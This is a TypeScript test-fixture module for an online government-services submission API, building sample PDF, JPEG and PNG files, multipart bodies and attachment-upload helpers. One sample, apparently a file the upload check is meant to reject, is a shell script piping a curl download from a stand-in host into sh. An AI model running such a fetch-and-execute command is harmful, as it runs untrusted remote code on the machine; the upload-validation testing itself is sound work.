/**
 * Files for the tests that hand components in online: sample files with their formats' signatures, multipart
 * bodies, and the uploads a citizen makes before submitting (POST /api/v1/attachments, one file per component).
 */
import { randomBytes } from 'node:crypto';
import { crc32 } from 'node:zlib';
import type { FastifyInstance } from 'fastify';
import { requiredOf, type Submission } from './examples.ts';

/** A PNG chunk: its length, type, data and CRC (the type detection reads the chunks up to the image data). */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** Small but real-looking files: each starts with its format's signature and structure. */
export const SAMPLES = {
  pdf: Buffer.concat([
    Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog >> endobj\n'),
    randomBytes(3000),
    Buffer.from('\n%%EOF\n'),
  ]),
  jpeg: Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0'),
    randomBytes(20_000),
    Buffer.from([0xff, 0xd9]),
  ]),
  png: Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', Buffer.from([0, 0, 0, 64, 0, 0, 0, 64, 8, 6, 0, 0, 0])),
    pngChunk('IDAT', randomBytes(12_000)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]),
  script: Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
};

export interface FilePart {
  name: string;
  type?: string;
  bytes: Buffer;
  field?: string;
}

/** A multipart/form-data body: the fields in order, then the file. */
export function multipart(
  fields: Record<string, string>,
  file?: FilePart,
  after: Record<string, string> = {},
) {
  const boundary = `----motcua${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  const field = (name: string, value: string) =>
    chunks.push(
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
    );
  for (const [name, value] of Object.entries(fields)) field(name, value);
  if (file) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name}"\r\n` +
          `Content-Type: ${file.type ?? 'application/octet-stream'}\r\n\r\n`,
      ),
      file.bytes,
      Buffer.from('\r\n'),
    );
  }
  for (const [name, value] of Object.entries(after)) field(name, value);
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** A server built by testServer (requests injected), or the base URL of one listening (a process). */
export type UploadTarget = FastifyInstance | string;

async function postFile(target: UploadTarget, payload: Buffer, headers: Record<string, string>) {
  if (typeof target !== 'string') {
    const res = await target.inject({ method: 'POST', url: '/api/v1/attachments', payload, headers });
    return { status: res.statusCode, body: res.body };
  }
  const res = await fetch(`${target}/api/v1/attachments`, {
    method: 'POST',
    headers,
    body: new Uint8Array(payload),
    signal: AbortSignal.timeout(30_000),
  });
  return { status: res.status, body: await res.text() };
}

/**
 * Uploads one small PDF per component (default: those the submission's answers require) as the signed-in caller,
 * for the submission's procedure; returns the files' ids, to send as `attachments`.
 */
export async function uploadFiles(
  target: UploadTarget,
  cookie: string,
  submission: Submission,
  components: string[] = requiredOf(submission),
): Promise<string[]> {
  const ids: string[] = [];
  for (const componentId of components) {
    const { payload, contentType } = multipart(
      { componentId, procedureCode: submission.procedureCode },
      { name: `${componentId}.pdf`, type: 'application/pdf', bytes: SAMPLES.pdf },
    );
    const res = await postFile(target, payload, { cookie, 'content-type': contentType });
    if (res.status !== 201) throw new Error(`upload of ${componentId} failed: ${res.status} ${res.body}`);
    ids.push((JSON.parse(res.body) as { id: string }).id);
  }
  return ids;
}

/** The body of an online submission with its required files uploaded first: `submission` plus `attachments`. */
export async function withFiles<T extends Submission>(
  target: UploadTarget,
  cookie: string,
  submission: T,
): Promise<T & { attachments: string[] }> {
  return { ...submission, attachments: await uploadFiles(target, cookie, submission) };
}
